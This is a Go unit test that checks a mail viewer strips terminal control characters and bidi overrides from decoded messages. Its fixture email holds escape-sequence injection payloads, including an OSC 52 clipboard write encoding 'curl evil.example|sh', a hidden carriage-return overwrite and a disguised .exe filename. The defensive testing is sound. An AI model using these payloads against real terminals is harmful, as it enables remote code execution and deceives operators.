package mailview

import (
	"strings"
	"testing"
	"unicode"
)

// A held post, a queued message, a ticket are written by strangers, and
// `relais held show`, `outbox show`, `digest preview` print them decoded
// to an operator's terminal. Decoded, an encoded word or a
// quoted-printable body carries any byte: ESC sequences that rewrite the
// terminal's title, set its clipboard (OSC 52), clear the screen, hide
// text; a lone CR that writes a harmless line over the one a moderator
// should have read before `held approve`; bidi overrides that reverse
// what is shown. None may reach the terminal.
func TestReview2NoControlCharactersReachTheTerminal(t *testing.T) {
	raw := "From: =?utf-8?q?Camille_=1B]0;pwned=07?= <c@example.org>\r\n" +
		"To: 4405.discussion@hub.example\r\n" +
		"Subject: =?utf-8?q?R=C3=A9union=1B]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=07?=\r\n" +
		"MIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=b\r\n\r\n" +
		"--b\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" +
		"Virez 500 =E2=82=AC sur FR76 1234.=0DBonjour =C3=A0 tous, rien de sp=C3=A9cial.\r\n" +
		"=1B[2J=1B[8mcach=C3=A9=1B[0m =E2=80=AEgnp.exe=C2=9B31m\r\n" +
		"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>lien <a href=\"http://x/\x1b]8;;http://evil/\x07\">ici</a></p>\r\n" +
		"--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"=?utf-8?q?a=1B[2Jb.pdf?=\"\r\n\r\nxx\r\n" +
		"--b--\r\n"
	out := String([]byte(raw))
	for i, r := range out {
		if r != '\n' && (unicode.IsControl(r) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069)) {
			t.Fatalf("control character %U at %d reaches the terminal:\n%q", r, i, out)
		}
	}
	for _, want := range []string{"Subject: Réunion", "Bonjour à tous", "cach"} {
		if !strings.Contains(out, want) {
			t.Errorf("%q lost:\n%s", want, out)
		}
	}
}
